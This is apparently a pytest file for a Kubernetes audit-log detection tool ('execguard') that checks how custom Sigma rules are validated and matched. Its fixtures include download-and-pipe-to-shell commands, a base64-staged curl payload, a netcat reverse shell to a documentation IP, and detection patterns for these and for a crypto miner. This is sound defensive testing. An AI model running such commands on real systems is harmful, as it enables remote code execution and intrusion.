"""Custom rules that cannot fire are refused at load with one line naming the file (and line);
valid rules with pySigma's modifiers and every documented field still load and match."""

from __future__ import annotations

import base64
import re
import subprocess
import sys
from pathlib import Path

import pytest

from execguard.engine.fields import FIELDS, FieldView, flat_fields
from execguard.engine.load import load_rules
from execguard.engine.rule import RuleError
from execguard.model import Actor, Event, Target

DOCS = Path(__file__).resolve().parent.parent / "docs" / "fields.md"


def rule_text(detection: str, reason: str | None = None, name: str = "custom-test") -> str:
    text = (
        "title: custom test rule\n"
        "id: 5f1f7f0a-1c55-4b7e-9a35-2f6a0c1d9e01\n"
        f"name: {name}\n"
        "status: experimental\n"
        "logsource: {product: kubernetes, service: audit}\n"
        "detection:\n"
        f"{detection}"
        "level: high\n"
    )
    if reason is not None:
        text += f"reason: '{reason}'\n"
    return text


SEL = "  sel:\n    command.text|contains: 'xmrig'\n  condition: sel\n"


def refused(tmp_path: Path, text: str) -> str:
    path = tmp_path / "custom.yml"
    path.write_text(text)
    with pytest.raises(RuleError) as info:
        load_rules([str(path)], builtin=False)
    message = str(info.value)
    assert message.startswith(str(path)) and "\n" not in message
    return message


# ---- refused ------------------------------------------------------------------------------------
def test_unknown_field_is_refused_with_the_nearest_name_and_line(tmp_path: Path) -> None:
    text = rule_text("  sel:\n    action: exec\n    comand.text|contains|all: ['curl', 'sh']\n  condition: sel\n")
    msg = refused(tmp_path, text)
    assert msg.startswith(f"{tmp_path / 'custom.yml'}:9: unknown field comand.text (did you mean command.text?)")


def test_field_in_other_case_is_refused(tmp_path: Path) -> None:
    msg = refused(tmp_path, rule_text("  sel:\n    Actor.User: alice\n  condition: sel\n"))
    assert ":8: unknown field Actor.User (did you mean actor.user?)" in msg


def test_unknown_field_in_a_later_selection_is_found(tmp_path: Path) -> None:
    det = "  sel:\n    action: exec\n  noisy:\n    - target.namspace: kube-system\n  condition: sel and not noisy\n"
    msg = refused(tmp_path, rule_text(det))
    assert ":10: unknown field target.namspace (did you mean target.namespace?)" in msg


@pytest.mark.parametrize(
    ("reason", "expected"),
    [
        ("ran {comand.line} in {where}", "reason names unknown field comand.line (did you mean command.line?)"),
        ("ran {command.line} in {wher}", "reason names unknown field wher (did you mean where?)"),
        ("ran {command.line in {where}", "reason has an unbalanced '{' at column 5"),
        ("ran {command.line} in {where", "reason has an unbalanced '{' at column 23"),
        ("ran command.line} in {where}", "reason has an unbalanced '}' at column 17"),
        ("ran {command.line:>40}", "reason placeholder {command.line:>40}: format specs and conversions are not supported"),
        ("by {actor.user!r}", "reason placeholder {actor.user!r}: format specs and conversions are not supported"),
        ("by {Actor.User}", "reason placeholder {Actor.User} is badly formed"),
    ],
)
def test_bad_reason_template_is_refused(tmp_path: Path, reason: str, expected: str) -> None:
    msg = refused(tmp_path, rule_text(SEL, reason))
    assert f":{len(rule_text(SEL).splitlines()) + 1}: {expected}" in msg


def test_invalid_regex_is_refused_at_its_line(tmp_path: Path) -> None:
    msg = refused(tmp_path, rule_text("  sel:\n    action: exec\n    command.text|re: 'wget (-q|-O'\n  condition: sel\n"))
    assert ":9: invalid Sigma rule: Regular expression 'wget (-q|-O' is invalid: missing )" in msg


def test_yaml_and_condition_errors_are_one_line_with_the_line(tmp_path: Path) -> None:
    msg = refused(tmp_path, rule_text("  sel:\n    action: [exec\n  condition: sel\n"))
    assert ": cannot read rule: " in msg and re.search(r"custom\.yml:\d+: ", msg)
    msg = refused(tmp_path, rule_text("  sel:\n    action: exec\n  condition: sel and\n"))
    assert ":9: invalid Sigma rule: " in msg


def test_correlation_group_by_and_reason_are_checked(tmp_path: Path) -> None:
    base = rule_text(SEL, name="miner-cmd")
    corr = (
        "title: miner burst\nid: 5f1f7f0a-1c55-4b7e-9a35-2f6a0c1d9e02\nname: miner-burst\nstatus: experimental\n"
        "correlation:\n  type: event_count\n  rules: [miner-cmd]\n  group-by: [actor.usr]\n  timespan: 10m\n"
        "  condition: {gte: 3}\nlevel: high\nreason: '{count} in {timespan} by {who}'\n"
    )
    (tmp_path / "a.yml").write_text(base)
    (tmp_path / "b.yml").write_text(corr)
    with pytest.raises(RuleError, match=r"b\.yml: group-by names unknown fields: actor\.usr \(did you mean actor\.user\?\)"):
        load_rules([str(tmp_path)], builtin=False)
    (tmp_path / "b.yml").write_text(corr.replace("actor.usr", "actor.user"))
    [_, burst] = load_rules([str(tmp_path)], builtin=False)  # {count} and {timespan} are a correlation's own
    assert burst.correlation is not None
    (tmp_path / "b.yml").write_text(corr.replace("actor.usr", "actor.user").replace("{count}", "{counts}"))
    with pytest.raises(RuleError, match=r"b\.yml:12: reason names unknown field counts \(did you mean count\?\)"):
        load_rules([str(tmp_path)], builtin=False)


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    # a real process: a C++ library logging to file descriptor 2 would not show in CliRunner's capture
    code = "import sys; from execguard.cli import app; sys.argv[0] = 'execguard'; app()"
    return subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=120,
                          env={"COLUMNS": "60", "PATH": "/usr/bin:/bin"})


@pytest.mark.parametrize(
    ("detection", "reason", "says"),
    [
        ("  sel:\n    command.text|re: 'curl (-s|-k'\n  condition: sel\n", None, ":8: invalid Sigma rule: Regular expression"),
        ("  sel:\n    command.txt|contains: curl\n  condition: sel\n", None, ":8: unknown field command.txt"),
        (SEL, "{command.line", ":11: reason has an unbalanced"),
    ],
)
def test_hunt_and_rules_exit_2_with_one_line(tmp_path: Path, detection: str, reason: str | None, says: str) -> None:
    bad = tmp_path / "bad.yml"
    bad.write_text(rule_text(detection, reason))
    log = tmp_path / "audit.log"
    log.write_text("")
    for args in (["hunt", "--rules", str(bad), str(log)], ["rules", "--rules", str(bad)]):
        res = run_cli(*args)
        assert res.returncode == 2, res.stderr
        assert res.stdout == ""
        lines = res.stderr.splitlines()
        assert len(lines) == 1, res.stderr  # nothing from RE2 or anything else, no wrapping, no traceback
        assert lines[0].startswith(f"error: {bad}") and says in lines[0]


# ---- accepted -----------------------------------------------------------------------------------
VALID = """\
  download:
    command.text|contains|all: ['wget', '| sh']
  staged:
    command.line|base64offset|contains: 'curl http'
  lookahead:
    command.line|re: '(?i)nc\\s+(?=-e)'
  inside:
    actor.source_ip|cidr: '10.20.0.0/16'
  interactive:
    tty: true
    command.shell: true
  condition: download or staged or lookahead or (inside and interactive)
"""


def event(argv: list[str], ip: str = "192.0.2.9", tty: bool = False) -> Event:
    return Event(action="exec", command=argv, tty=tty, actor=Actor(user="alice", source_ip=[ip]),
                 target=Target(namespace="shop", pod="web-1", container="app"))


def test_valid_custom_rule_with_modifiers_loads_and_fires(tmp_path: Path) -> None:
    path = tmp_path / "ok.yml"
    path.write_text(rule_text(VALID, "{who} ran {command.line} in {where} ({target.image|no image})"))
    [rule] = load_rules([str(path)], builtin=False)
    assert rule.fields_used == {"command.text", "command.line", "actor.source_ip", "tty", "command.shell"}
    payload = base64.b64encode(b"curl http://198.51.100.4/x | sh").decode()
    hits = [
        event(["sh", "-c", "wget -q -O - http://198.51.100.4/a | sh"]),
        event(["sh", "-c", f"echo {payload} | base64 -d | sh"]),
        event(["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]),
        event(["bash"], ip="10.20.3.4", tty=True),
    ]
    misses = [event(["wget", "http://example.com/"]), event(["nc", "-l", "8080"]), event(["bash"], tty=True)]
    assert [rule.matcher(FieldView(e)) for e in hits] == [True] * 4
    assert [rule.matcher(FieldView(e)) for e in misses] == [False] * 3
    assert rule.explain(FieldView(hits[0])) == (
        "alice from 192.0.2.9 ran sh -c wget -q -O - http://198.51.100.4/a | sh in shop/web-1 container app (no image)"
    )


def test_every_documented_field_can_be_named(tmp_path: Path) -> None:
    det = "  sel:\n" + "".join(f"    {n}|exists: true\n" for n in documented_fields()) + "  condition: sel\n"
    path = tmp_path / "all.yml"
    reason = " ".join("{" + n + "}" for n in documented_fields())
    path.write_text(rule_text(det, reason))
    [rule] = load_rules([str(path)], builtin=False)
    assert rule.fields_used == set(FIELDS)


def test_builtin_rules_pass_the_checks() -> None:
    assert len(load_rules()) > 20


# ---- one list of fields --------------------------------------------------------------------------
def documented_fields() -> list[str]:
    names: list[str] = []
    for line in DOCS.read_text(encoding="utf-8").splitlines():
        if line.startswith("## "):  # the field table is the first section; later ones (Redaction) are not fields
            break
        if line.startswith("| `"):
            first = line.split("|")[1]
            names += re.findall(r"`([^`]+)`", first)
    return names


def test_docs_fields_md_lists_exactly_the_model_fields() -> None:
    documented = documented_fields()
    assert len(documented) == len(set(documented)), "a field is documented twice"
    assert set(documented) == set(FIELDS)
    assert set(FIELDS) == set(flat_fields(Event()))


def test_unreadable_rule_file_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "latin1.yml"
    path.write_bytes(rule_text(SEL, "caf\xe9 {where}").encode("latin-1"))
    with pytest.raises(RuleError, match=rf"^{re.escape(str(path))}: not UTF-8 text \(byte \d+\)$"):
        load_rules([str(tmp_path)], builtin=False)
